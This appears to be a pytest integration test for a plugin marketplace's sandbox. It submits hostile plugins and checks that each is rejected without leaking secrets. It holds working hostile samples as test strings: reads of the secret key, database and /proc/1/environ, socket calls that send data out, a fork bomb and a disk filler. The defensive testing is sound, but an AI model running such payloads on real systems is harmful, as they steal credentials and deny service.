"""Hostile plugins submitted to the marketplace: one reads the platform's secret key, database,
file storage and environment; one calls the network; one fork-bombs; one fills the disk; one
carries Python nested too deeply to parse. Each fails its checks with a report that names what
stopped it, while the platform's secrets stay
unread (canaries in the key file, the database, the environment appear nowhere), no connection
reaches the platform, the machine keeps answering and nothing of the sandbox is left behind. A
well-behaved plugin checked beside them passes."""

from __future__ import annotations

import asyncio
import dataclasses
import json
import socket
import subprocess
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy.engine import make_url

from services.db import open_session
from services.marketplace import service as marketplace
from services.marketplace.models import PluginVersion
from services.marketplace.scaffolding import new_plugin
from tenants.context import system_scope
from tests.conftest import Api, World, deliver_events, unique_email
from tests.integration.test_publishing import Platform, _join_checks, _sdist, confirm_admin
from tests.sandbox_support import SANDBOX_ID, most_in_one_sandbox, none_left

PROCESSES = 32
FILE_SIZE_MB = 8
WRITABLE_MB = 32


@dataclasses.dataclass
class Canaries:
    secret_key: str  # in GUIJU_VAR_DIR/secret_key and GUIJU_SECRET_KEY
    environment: str  # in GUIJU_CANARY
    database: str  # the publisher's company name, in the database

    def found_in(self, text: str) -> list[str]:
        return [c for c in (self.secret_key, self.environment, self.database) if c in text]


@dataclasses.dataclass
class Hostile:
    platform: Platform
    canaries: Canaries
    database_file: str | None  # the SQLite file, on that backend


@pytest.fixture
def hostile(world: World, monkeypatch: pytest.MonkeyPatch) -> Iterator[Hostile]:
    """The world with canaries where a platform keeps its secrets, and a small sandbox."""
    canaries = Canaries(*(f"canary-{kind}-{uuid.uuid4().hex}" for kind in ("key", "env", "db")))
    (world.settings.var_dir / "secret_key").write_text(canaries.secret_key)
    monkeypatch.setenv("GUIJU_SECRET_KEY", canaries.secret_key)
    monkeypatch.setenv("GUIJU_CANARY", canaries.environment)
    url = make_url(world.backend.url)
    admin_email = unique_email("platform-admin")
    marketplace.configure(
        dataclasses.replace(
            world.settings,
            platform_admins=(admin_email,),
            sandbox_uid=SANDBOX_ID,
            sandbox_gid=SANDBOX_ID,
            sandbox_processes=PROCESSES,
            sandbox_file_size_mb=FILE_SIZE_MB,
            sandbox_writable_mb=WRITABLE_MB,
            plugin_check_load_seconds=30,
            plugin_check_tests_seconds=20,
        )
    )
    try:
        suffix = uuid.uuid4().hex[:6]
        platform = Platform(world, admin_email, f"Hostile Co {suffix}", f"hostile-{suffix}")
        yield Hostile(platform, canaries, url.database if url.get_backend_name() == "sqlite" else None)
    finally:
        marketplace.configure(world.settings)


# ---------------------------------------------------------------- the hostile plugins

READER_MODULE = """
import os as _os


def _attempt(path):
    try:
        if _os.path.isdir(path):
            return "listed " + ",".join(sorted(_os.listdir(path)))
        with open(path, "rb") as handle:
            return "read " + handle.read().decode("latin-1")
    except OSError as exc:
        return type(exc).__name__


TARGETS = {targets}
FINDINGS = "; ".join(f"{{label}}: {{_attempt(path)}}" for label, path in TARGETS.items() if path)
FINDINGS += "; environment: " + ",".join(f"{{k}}={{v}}" for k, v in sorted(_os.environ.items()))
"""

READER_TESTS = """
from {package} import plugin


def test_the_platforms_secrets_are_read():
    print(plugin.FINDINGS)
    assert "read " in plugin.FINDINGS or "GUIJU_" in plugin.FINDINGS, plugin.FINDINGS
"""

CALLER_TESTS = """
import socket

PLATFORM_PORT = {port}


def test_calls_home():
    tried = {{}}
    for label, (host, port) in {{
        "platform": ("127.0.0.1", PLATFORM_PORT),
        "postgres": ("127.0.0.1", 5432),
        "redis": ("127.0.0.1", 6379),
        "internet": ("1.1.1.1", 443),
    }}.items():
        try:
            with socket.create_connection((host, port), timeout=3) as connection:
                connection.sendall(b"stolen")
            tried[label] = "connected"
        except OSError as exc:
            tried[label] = f"{{type(exc).__name__}}: {{exc}}"
    try:
        socket.getaddrinfo("pypi.org", 443)
        tried["dns"] = "resolved"
    except OSError as exc:
        tried["dns"] = f"{{type(exc).__name__}}: {{exc}}"
    assert "connected" in tried.values(), tried
"""

FORKER_TESTS = """
import os


def test_forks_without_end():
    while True:
        os.fork()
"""

FILLER_TESTS = """
import os
import tempfile


def test_one_file_without_end():
    with open(os.path.join(tempfile.gettempdir(), "huge"), "wb") as huge:
        while True:
            huge.write(b"x" * 1024 * 1024)


def test_the_whole_disk():
    part = 0
    while True:
        with open(os.path.join(tempfile.gettempdir(), f"part-{{part}}"), "wb") as piece:
            piece.write(b"x" * 1024 * 1024)
        part += 1


def test_beside_its_code():
    with open("written-here", "w") as beside:
        beside.write("x")
"""


def _hostile_plugin(name: str, into: Path, publisher: str, tests: str, module: str = "") -> Path:
    """A scaffolded plugin (it loads and registers cleanly) with hostile tests, and hostile code
    run when it is imported."""
    root = new_plugin(name, into, publisher=publisher)
    package = name.replace("-", "_")
    plugin_py = root / "src" / package / "plugin.py"
    source = plugin_py.read_text()
    if module:
        source = source.replace('DEFAULT_GREETING = "Hello"\n', f'DEFAULT_GREETING = "Hello"\n{module}\n')
        source = source.replace('summary_en="Greets whoever an automation names."', "summary_en=FINDINGS")
    plugin_py.write_text(source)
    (root / "tests" / "test_plugin.py").unlink()
    (root / "tests" / "test_hostile.py").write_text(tests.format(package=package))
    return root


def _tangled(root: Path) -> Path:
    """The plugin, with Python files nested too deeply for the parser that reads its imports."""
    package = root / "src" / root.name.replace("-", "_")
    (package / "deep.py").write_text("x = " + "-" * 200_000 + "1\n")
    (package / "long.py").write_text("x = a" + ".b" * 300_000 + "\n")
    return root


async def _publisher_named(platform: Platform, company: str) -> Api:
    """A publisher whose workspace's name (in the database) is ``company``."""
    publisher, body = await platform.signup(company_name=company)
    admin, _ = await platform.signup(email=platform.admin_email)
    await confirm_admin(admin, platform.admin_email)
    grant = {"tenant_id": body["tenant"]["id"], "name": platform.publisher_name}
    granted = await admin.post("/api/v1/admin/publishers", grant)
    assert granted.status_code == 201, granted.text
    return publisher


async def _stored(plugin: str) -> dict[str, Any]:
    with system_scope():
        async with open_session(system=True) as db:
            row = await db.get(PluginVersion, (plugin, "0.1.0"))
            assert row is not None
            return {"status": row.status, "check_report": row.check_report, "manifest": row.manifest}


def _check(stored: dict[str, Any], name: str) -> dict[str, Any]:
    [found] = [c for c in stored["check_report"]["checks"] if c["name"] == name]
    return found  # type: ignore[no-any-return]


async def _join_while_watching_the_machine() -> tuple[int, float]:
    """Wait for the checks; meanwhile, the most processes seen at once in one sandbox, and the
    slowest start of a process on the machine."""
    joined = asyncio.ensure_future(_join_checks())
    most, slowest = 0, 0.0
    while not joined.done():
        most = max(most, most_in_one_sandbox(SANDBOX_ID))
        started = time.monotonic()
        await asyncio.to_thread(subprocess.run, ["true"], check=True)
        slowest = max(slowest, time.monotonic() - started)
        await asyncio.sleep(0.1)
    await joined
    return most, slowest


async def test_hostile_submissions_fail_their_checks_and_read_nothing_of_the_platform(
    hostile: Hostile, tmp_path: Path
) -> None:
    platform, canaries = hostile.platform, hostile.canaries
    publisher = await _publisher_named(platform, canaries.database)
    settings = marketplace.settings()
    sources = tmp_path.parent / f"{tmp_path.name}-sources"  # not in the data directory
    kinds = ("reader", "caller", "forker", "filler", "tangle", "decent")
    names = {kind: f"{platform.plugin}-{kind}" for kind in kinds}
    targets = {
        "secret_key": str(settings.var_dir / "secret_key"),
        "var": str(settings.var_dir),
        "storage": str(settings.files_dir),
        "database": hostile.database_file,
        "init_environment": "/proc/1/environ",
    }
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        roots = [
            _hostile_plugin(
                names["reader"],
                sources,
                platform.publisher_name,
                READER_TESTS,
                module=READER_MODULE.format(targets=repr(targets)),
            ),
            _hostile_plugin(
                names["caller"],
                sources,
                platform.publisher_name,
                CALLER_TESTS.replace("{port}", str(listener.getsockname()[1])),
            ),
            _hostile_plugin(names["forker"], sources, platform.publisher_name, FORKER_TESTS),
            _hostile_plugin(names["filler"], sources, platform.publisher_name, FILLER_TESTS),
            _tangled(new_plugin(names["tangle"], sources, publisher=platform.publisher_name)),
            new_plugin(names["decent"], sources, publisher=platform.publisher_name),
        ]
        for root in roots:
            upload = await publisher.post(
                "/api/v1/publisher/plugins/source",
                files={"file": (f"{root.name}-0.1.0.tar.gz", _sdist(root), "application/gzip")},
            )
            assert upload.status_code == 201, upload.text
        started = time.monotonic()
        await deliver_events()
        most, slowest = await _join_while_watching_the_machine()
        took = time.monotonic() - started
        with pytest.raises(BlockingIOError):
            listener.accept()  # no connection reached the platform

    stored = {kind: await _stored(name) for kind, name in names.items()}
    listed = (await publisher.get("/api/v1/publisher/plugins")).json()
    assert canaries.found_in(json.dumps(stored)) == []
    assert canaries.found_in(json.dumps(listed)) == []

    # Files the parser cannot read fail the imports check; the checks still end, with a report.
    package = names["tangle"].replace("-", "_")
    assert stored["tangle"]["status"] == "rejected"
    assert _check(stored["tangle"], "imports")["details"] == [
        f"src/{package}/deep.py: cannot be parsed: nested too deeply",
        f"src/{package}/long.py: cannot be parsed: nested too deeply",
    ]
    assert _check(stored["tangle"], "tests")["ok"]

    # The well-behaved plugin, checked beside them, is unharmed.
    assert stored["decent"]["status"] == "pending", stored["decent"]["check_report"]

    for kind in ("reader", "caller", "forker", "filler"):
        result = stored[kind]
        assert result["status"] == "rejected"
        loaded = {name: _check(result, name)["ok"] for name in ("manifest", "api_range", "hooks", "imports", "tests")}
        assert loaded == {"manifest": True, "api_range": True, "hooks": True, "imports": True, "tests": False}, kind

    # What the reader got, at import (in its manifest) and in its tests (in the report).
    findings = stored["reader"]["manifest"]["summary"]["en"]
    assert "secret_key: FileNotFoundError; var: FileNotFoundError; storage: FileNotFoundError" in findings
    if hostile.database_file:
        assert "database: FileNotFoundError" in findings
    assert "init_environment: PermissionError" in findings
    environment = dict(item.split("=", 1) for item in findings.split("; environment: ", 1)[1].split(","))
    assert not [variable for variable in environment if variable.startswith("GUIJU_")]
    reader_tests = "\n".join(_check(stored["reader"], "tests")["details"])
    assert "secret_key: FileNotFoundError" in reader_tests and "AssertionError" in reader_tests

    caller_tests = _check(stored["caller"], "tests")["details"]
    network = "the tests tried the network, which is unreachable in the checks (only the sandbox's own loopback)"
    assert caller_tests[0] == network
    assert "'platform': 'ConnectionRefusedError: [Errno 111] Connection refused'" in "\n".join(caller_tests)

    forker_tests = _check(stored["forker"], "tests")["details"]
    assert f"the tests ran into the limit of {PROCESSES} processes and threads at once (the process limit)" in (
        forker_tests
    )
    assert most <= PROCESSES  # the fork bomb never had more, however hard it tried
    assert slowest < 2  # and the machine kept starting processes promptly

    filler_tests = _check(stored["filler"], "tests")["details"]
    for limit in (
        f"the tests wrote a file larger than {FILE_SIZE_MB} MiB (the file-size limit)",
        f"the tests filled the {WRITABLE_MB} MiB of writable space ($TMPDIR, the only writable place)",
        "the tests wrote outside $TMPDIR, and everything else is read-only in the checks",
    ):
        assert limit in filler_tests, filler_tests

    assert none_left(SANDBOX_ID)
    assert took < 90


async def test_where_the_sandbox_cannot_run_a_submission_is_rejected_and_its_code_never_runs(
    hostile: Hostile, tmp_path: Path
) -> None:
    platform = hostile.platform
    missing = tmp_path / "no-bwrap"
    marketplace.configure(dataclasses.replace(marketplace.settings(), sandbox_bwrap=str(missing)))
    publisher = await _publisher_named(platform, "Unsandboxed Co")
    ran = tmp_path.parent / f"{tmp_path.name}-ran"  # the plugin leaves this wherever its code runs
    name = f"{platform.plugin}-unconfined"
    root = _hostile_plugin(
        name,
        tmp_path.parent / f"{tmp_path.name}-sources",
        platform.publisher_name,
        READER_TESTS,
        module=f'open({str(ran)!r}, "a").close()\nFINDINGS = "ran"\n',
    )
    upload = await publisher.post(
        "/api/v1/publisher/plugins/source",
        files={"file": (f"{root.name}-0.1.0.tar.gz", _sdist(root), "application/gzip")},
    )
    assert upload.status_code == 201, upload.text
    await deliver_events()
    await _join_checks()

    stored = await _stored(name)
    assert stored["status"] == "rejected"
    unavailable = (
        f"not checked: the sandbox is unavailable ({missing} is not installed (Debian package bubblewrap)), "
        "and the plugin's code runs nowhere else"
    )
    assert {c["name"]: c["details"] for c in stored["check_report"]["checks"] if not c["ok"]} == {
        name: [unavailable] for name in ("manifest", "api_range", "hooks", "tests")
    }
    assert _check(stored, "imports")["ok"]  # read, not run
    assert not ran.exists()
